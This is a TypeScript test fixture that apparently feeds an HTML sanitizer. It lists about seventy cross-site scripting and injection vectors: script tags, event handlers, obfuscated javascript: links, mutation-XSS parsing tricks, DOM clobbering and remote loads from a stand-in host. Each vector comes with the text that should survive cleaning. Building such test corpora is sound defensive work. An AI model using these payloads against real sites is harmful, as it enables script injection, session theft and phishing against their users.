/** A piece of HTML that would do harm if it reached a page, and the words of it that must. */
export interface Vector {
  readonly name: string;
  readonly html: string;
  /** What a reader of the page sees, white space collapsed. */
  readonly words: string;
}

const harm = 'alert(document.domain)';
const away = 'https://away.example';

/** One way of attack a line; the same words stand around each. */
const attacks: Readonly<Record<string, readonly [html: string, words: string]>> = {
  // Script that runs by itself
  'script element': [`<script>${harm}</script>`, ''],
  'script in svg': [`<svg><script>${harm}</script></svg>`, ''],
  'script from away': [`<script src="${away}/a.js"></script>`, ''],
  'module from away': [`<script type="module">import "${away}/a.js"</script>`, ''],
  'script behind an unclosed comment end': [`<!--><script>${harm}</script>-->`, '-->'],
  'script in a title that ends early': [`<svg><title><![CDATA[</title><script>${harm}</script>]]></title></svg>`, ''],
  'script in noscript': [`<noscript><p title="</noscript><script>${harm}</script>">inner</p></noscript>`, '">inner'],
  'script in a select': [`<select><option>one<script>${harm}</script></option></select>`, 'one'],
  'script split by a null': [`<scr\0ipt>${harm}</script>`, harm],
  'document in a frame': [`<iframe srcdoc="<script>parent.${harm}</script>"></iframe>`, ''],
  'script in a frame': [`<iframe src="javascript:parent.${harm}"></iframe>`, ''],
  object: [`<object data="${away}/a.swf" onerror="${harm}"></object>`, ''],
  embed: [`<embed src="${away}/a.swf">`, ''],
  'refresh to script': [`<meta http-equiv="refresh" content="0;url=javascript:${harm}">`, ''],
  // Handlers
  'image that fails': [`<img src="x:" onerror="${harm}">`, ''],
  'svg that loads': [`<svg onload="${harm}"><circle r="1"/></svg>`, ''],
  'details that toggle': [`<details open ontoggle="${harm}"><summary>one</summary>two</details>`, 'one two'],
  'handler on a paragraph': [
    `<p onclick="${harm}" onmouseover="${harm}" onfocus="${harm}" tabindex="0">one</p>`,
    'one',
  ],
  'handler without a space': [`<a/href="${away}/"onclick="${harm}">one</a>`, 'one'],
  'handler in upper case': [`<B ONCLICK="${harm}">one</B>`, 'one'],
  'handler with a form feed': [`<b\fonclick\f=\f"${harm}">one</b>`, 'one'],
  'handler on a custom element': [`<x-y onclick="${harm}">one</x-y>`, 'one'],
  'handler on the body': [`<body onload="${harm}" onpageshow="${harm}"><p>one</p></body>`, 'one'],
  'animation that starts': [
    `<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="${harm}">one</b>`,
    'one',
  ],
  'media that fails': [
    `<video onerror="${harm}"><source src="x:" onerror="${harm}"></video><audio src="x:" onerror="${harm}"></audio>`,
    '',
  ],
  // Links
  'link to script': [`<a href="javascript:${harm}">one</a>`, 'one'],
  'link to script, disguised by entities': [`<a href="&#x6a;ava&Tab;script&colon;${harm}">one</a>`, 'one'],
  'link to script behind a control character': [`<a href="\u0001javascript:${harm}">one</a>`, 'one'],
  'link to script across lines': [`<a href="java\nscript:${harm}">one</a>`, 'one'],
  'link to a document of its own': [`<a href="data:text/html,<script>${harm}</script>">one</a>`, 'one'],
  'link to an old script': [`<a href="vbscript:msgbox(1)">one</a>`, 'one'],
  'link to a program': [`<a href="ms-msdt:/id">one</a>`, 'one'],
  'link with a user name': [`<a href="https://known.example@away.example/">one</a>`, 'one'],
  'link without a scheme': [`<a href="//away.example/">one</a>`, 'one'],
  'link with backslashes': [`<a href="\\\\away.example\\">one</a>`, 'one'],
  'link in svg': [`<svg><a xlink:href="javascript:${harm}"><text>one</text></a></svg>`, 'one'],
  'area of a map': [`<map name="m"><area shape="default" href="javascript:${harm}"></map>`, ''],
  'link that tells': [`<a href="${away}/" ping="${away}/ping" target="_top" download="a.exe">one</a>`, 'one'],
  base: [`<base href="javascript:/a/"><a href="#x">one</a>`, 'one'],
  // Requests
  pixel: [`<img src="${away}/pixel.gif" srcset="${away}/2x.gif 2x" alt="unseen" width="1">`, ''],
  picture: [`<picture><source srcset="${away}/a.webp"><img src="${away}/a.png"></picture>`, ''],
  'poster and tracks': [`<video poster="${away}/a.png"><track src="${away}/a.vtt" default></video>`, ''],
  'style sheet': [`<link rel="stylesheet" href="${away}/a.css"><link rel="prefetch" href="${away}/a">`, ''],
  'import of a style': [
    `<style>@import "${away}/a.css"; p { background: url(${away}/a.png) }</style><p>one</p>`,
    'one',
  ],
  background: [
    `<p style="background:url(${away}/a.png)">one</p><table background="${away}/b.png"><tr><td>two</table>`,
    'one two',
  ],
  'image in svg': [`<svg><image href="${away}/a.png"/><use href="${away}/a.svg#b"/></svg>`, ''],
  'image of an input': [`<input type="image" src="${away}/a.png">`, ''],
  frameset: [`<frameset><frame src="${away}/"></frameset>`, ''],
  // Looks
  overlay: [`<a href="${away}/" style="position:fixed;inset:0;opacity:0">one</a>`, 'one'],
  'style element': ['<style>body { display: none }</style><p>one</p>', 'one'],
  'classes and data of the page': [
    `<p class="modal" data-part="trigger" data-rolecall="static" aria-hidden="true" role="alert">one</p>`,
    'one',
  ],
  // Forms
  'form that asks for a password': [
    `<form action="${away}/"><label>one <input type="password" name="p" autofocus></label><button formaction="${away}/">two</button></form>`,
    'one two',
  ],
  'controls that belong to a form elsewhere': [
    `<button form="apply" type="submit">one</button><textarea name="a">unseen</textarea>`,
    'one',
  ],
  'text that can be edited': [`<p contenteditable autofocus onfocus="${harm}">one</p>`, 'one'],
  'keys of the page': [`<a href="${away}/" accesskey="s" tabindex="1">one</a>`, 'one'],
  popover: [`<button popovertarget="p">one</button><div id="p">two</div>`, 'one two'],
  // Names
  'ids that shadow globals': [
    `<h2 id="location">Location</h2><p id="alert">one</p><a name="self" id="self">two</a>`,
    'Location one two',
  ],
  'names that shadow a document': [
    `<img name="cookie"><form name="body"><input name="children"></form><embed name="currentScript">`,
    '',
  ],
  // What turns into something else when it is parsed again
  'style in math': [`<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x: onerror=${harm}>">`, ''],
  'svg in a paragraph': [`<svg></p><style><a id="</style><img src=x: onerror=${harm}>">`, '">'],
  'end of a textarea in a title': [`<title><textarea></title><img src=x: onerror=${harm}>`, ''],
  'markup as text': [`<p>&lt;img src=x: onerror=${harm}&gt;</p>`, `<img src=x: onerror=${harm}>`],
  'markup as text, twice': [
    `<p>&amp;lt;script&amp;gt;${harm}&amp;lt;/script&amp;gt;</p>`,
    `&lt;script&gt;${harm}&lt;/script&gt;`,
  ],
  'markup in a heading': [`<h2>&lt;/h2&gt;&lt;script&gt;${harm}&lt;/script&gt;</h2>`, `</h2><script>${harm}</script>`],
  'attribute that ends early': [`<a href='${away}/"onclick="${harm}'>one</a>`, 'one'],
  'language that ends early': [`<p lang='de" onclick="${harm}'>one</p>`, 'one'],
  'processing instruction': [`<?xml-stylesheet href="javascript:${harm}"?>`, ''],
  template: [`<template><img src=x: onerror=${harm}></template>`, ''],
  'shadow tree': [`<div><template shadowrootmode="open"><img src=x: onerror=${harm}></template>one</div>`, 'one'],
};

/** Every attack between two paragraphs that have to stay. */
export const vectors: readonly Vector[] = Object.entries(attacks).map(([name, [html, words]]) => ({
  name,
  html: `<p>Before it.</p>${html}<p>After it.</p>`,
  words,
}));
